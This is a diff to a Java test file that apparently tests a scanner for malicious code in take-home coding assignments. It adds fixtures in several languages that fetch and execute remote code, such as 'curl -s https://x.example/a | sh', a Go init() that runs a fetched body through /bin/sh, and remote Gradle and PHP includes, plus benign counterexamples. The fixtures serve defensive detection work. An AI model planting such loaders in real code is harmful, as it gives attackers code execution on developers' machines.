@@ -40,7 +40,14 @@ final class TakeHomeCodeTest {
         "a.js#const e = eval; let out;\naxios.get(u).then(({ data }) => { out = data; }).finally(() => e(out));",
         "a.js#const r = await fetch(u); const t = await r.text(); Reflect.apply(eval, null, [t]);",
         "a.js#const { execSync } = require('child_process');\nexecSync('curl -s https://x.example/a | sh');",
-        "hardhat.config.js#const c = await got(u).text();\nconst t = eval(c);");
+        "hardhat.config.js#const c = await got(u).text();\nconst t = eval(c);",
+        "main.go#package main\n\nimport \"net/http\"\n\nfunc init() {\nresp, err := http.Get(url)\nif err != nil {\n\treturn\n}\nbody, _ := io.ReadAll(resp.Body)\n_ = exec.Command(\"/bin/sh\", \"-c\", string(body)).Start()\n}",
+        "plugin.cjs#module.exports = {factory: (require) => {\nconst cp = require('child_process');\ncp.execSync('curl -s https://x.example/a | sh');\n}};",
+        "build.gradle.kts#apply(from = \"https://x.example/a.gradle\")",
+        "build.gradle#apply from: 'https://x.example/a.gradle'",
+        "a.php#<?php include 'https://x.example/a.txt';",
+        "build.gradle.kts#exec { commandLine(\"sh\", \"-c\", \"curl -s https://x.example/a | sh\") }",
+        "build.gradle#exec {\n  commandLine 'sh', '-c', 'curl -s https://x.example/a | sh'\n}");
   }
 
   static Stream<Arguments> harmless() {
@@ -59,6 +66,9 @@ final class TakeHomeCodeTest {
         "a.js#const r = await fetch('/api/code'); eval(await r.text());",
         "notes.md#fetch(u).then(r => r.text()).then(t => eval(t))",
         "a.js#// never eval(response.data) of fetch(u)\nconst a = 1;",
+        "main.go#out, err := exec.Command(\"git\", \"tag\").Output()\nresp, err := http.Get(url)\nif err != nil {\n\tpanic(err)\n}",
+        "build.gradle#apply from: 'gradle/quality.gradle'\nexec { commandLine 'git', 'rev-parse', 'HEAD' }",
+        "a.php#<?php include 'templates/page.php'; $r = file_get_contents('https://x.example/a'); echo $r;",
         "Vault.sol#function execute(bytes calldata data) external { target.call(data); }");
   }
 
@@ -69,6 +79,7 @@ final class TakeHomeCodeTest {
         "a.js#var _0x1a2b=[],_0x2b3c,_0x3c4d,_0x4d5e,_0x5e6f,_0x6f7a,_0x7a8b,_0x8b9c;",
         "a.py#exec(base64.b64decode('aW1wb3J0IG9z'))",
         "a.py#exec(zlib.decompress(b'x'))",
+        "a.py#with open('data.bin') as f:\n    exec(f.read())",
         "a.js#const k = Buffer.from(s, 'base64').toString(); eval(k)",
         "a.go#// \u202e } // begin admins only",
         "a.ts#const s = '" + "\uFE01\uFE02".repeat(10) + "';");
@@ -82,6 +93,7 @@ final class TakeHomeCodeTest {
         "a.js#const token = atob(parts[1]);\nconst user = JSON.parse(token);",
         "vendor/q.min.js#" + "!function(e,t){return e(t)}(this,function(n){return n});".repeat(30),
         "a.py#data = base64.b64decode(encoded)\nimage = Image.open(io.BytesIO(data))",
+        "setup.py#with open('version.py') as f:\n    exec(f.read(), about)\nwith open('README.md') as f:\n    text = f.read()",
         "data.csv#1" + " ".repeat(300) + "total (net)",
         "a.js#const a = 1;" + " ".repeat(40) + "// aligned (far)",
         "package-lock.json#\"_0x1a2b\" \"_0x2b3c\" \"_0x3c4d\" \"_0x4d5e\" \"_0x5e6f\" \"_0x6f7a\" \"_0x7a8b\" \"_0x8b9c\"",
